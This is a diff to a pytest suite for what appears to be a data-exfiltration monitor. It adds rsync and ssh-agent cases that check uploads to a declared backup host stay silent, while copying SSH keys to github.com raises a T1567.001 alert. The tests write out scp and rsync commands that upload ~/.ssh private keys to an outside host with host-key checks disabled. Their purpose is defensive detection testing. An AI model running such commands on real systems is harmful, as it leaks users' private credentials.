@@ -28,6 +28,7 @@ NAMES = (
     "github.com", "api.github.com", "s3.amazonaws.com", "own-backups.s3.amazonaws.com",
     "other-bucket.s3.amazonaws.com", "own-backups.s3.us-east-1.amazonaws.com",
     "other-bucket.s3.us-east-1.amazonaws.com", "s3.dualstack.us-east-1.amazonaws.com",
+    "backup.corp.example",
 )
 FLOW_TIMEOUT_S = 20.0
 ALERT_TIMEOUT_S = 20.0
@@ -39,6 +40,7 @@ own_storage:
   destinations:
     - amazonaws.com/own-backups        # the bucket is the organisation's on any S3 endpoint
     - {domain: s3.amazonaws.com, remote: own, path: own-backups/, tools: [rclone]}
+    - {domain: backup.corp.example, path: /tmp/, tools: [rsync]}  # pytest's directories
 """
 
 # Fake secrets this file writes (on top of FakeHome's): random-looking, never real.
@@ -481,6 +483,58 @@ def test_scp_of_the_key_itself_alerts(monitor, home, storage, sshd, tmp_path):
     authorize(home, sshd)
     target = tmp_path / "scp-key"
     run(SCP + f"$HOME/.ssh/id_ed25519 root@github.com:{target}", home, storage, tmp_path)
+    assert target.exists()
+    assert_alert_here(monitor, home, "T1567.001")
+
+
+# --- rsync over ssh: a nightly backup to the organisation's own host ---------------------------
+# Documents are sensitive: to a host nobody declared, rsync's ssh uploading them alerts (as any
+# undeclared destination does); to the declared backup host it is the job it looks like.
+
+RSYNC = ('rsync -a -e "ssh -i $HOME/.ssh/id_deploy -o StrictHostKeyChecking=no '
+         '-o UserKnownHostsFile=/dev/null -o BatchMode=yes" ')
+
+
+def test_rsync_backup_of_documents_to_the_declared_host_is_silent(monitor, home, storage, sshd, tmp_path):
+    authorize(home, sshd)
+    target = tmp_path / "rsync-backup"
+    run(RSYNC + f"$HOME/Documents/ root@backup.corp.example:{target}/", home, storage, tmp_path)
+    assert (target / "q3-report.pdf").stat().st_size == 120_000
+    wait_for_flow(monitor, storage, "backup.corp.example")
+    assert_silent_here(monitor, home)
+
+
+def test_rsync_of_ssh_keys_to_a_code_host_alerts(monitor, home, storage, sshd, tmp_path):
+    authorize(home, sshd)
+    target = tmp_path / "rsync-keys"
+    run(RSYNC + f"$HOME/.ssh/ root@github.com:{target}/", home, storage, tmp_path)
+    assert (target / "id_ed25519").exists()
+    assert_alert_here(monitor, home, "T1567.001")
+
+
+# --- the key held by ssh-agent -----------------------------------------------------------------
+# ssh-add reads the key and hands it to the agent over its UNIX socket; ssh then signs through the
+# agent, never reading the key: the agent's socket carries signatures, not the key, to whoever
+# asks.
+
+AGENT = ("eval $(ssh-agent -s) > /dev/null && trap 'ssh-agent -k > /dev/null' EXIT && "
+         "ssh-add -q $HOME/.ssh/id_deploy && ")
+SCP_AGENT = "scp -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes "
+
+
+def test_scp_through_ssh_agent_is_silent(monitor, home, storage, sshd, tmp_path):
+    authorize(home, sshd)
+    target = tmp_path / "scp-agent-artifact.tar"
+    run(AGENT + SCP_AGENT + f"$HOME/build/artifact.tar root@github.com:{target}", home, storage, tmp_path)
+    assert target.stat().st_size == 200_000
+    wait_for_flow(monitor, storage, "github.com")
+    assert_silent_here(monitor, home)
+
+
+def test_scp_of_a_key_through_ssh_agent_alerts(monitor, home, storage, sshd, tmp_path):
+    authorize(home, sshd)
+    target = tmp_path / "scp-agent-key"
+    run(AGENT + SCP_AGENT + f"$HOME/.ssh/id_ed25519 root@github.com:{target}", home, storage, tmp_path)
     assert target.exists()
     assert_alert_here(monitor, home, "T1567.001")
 
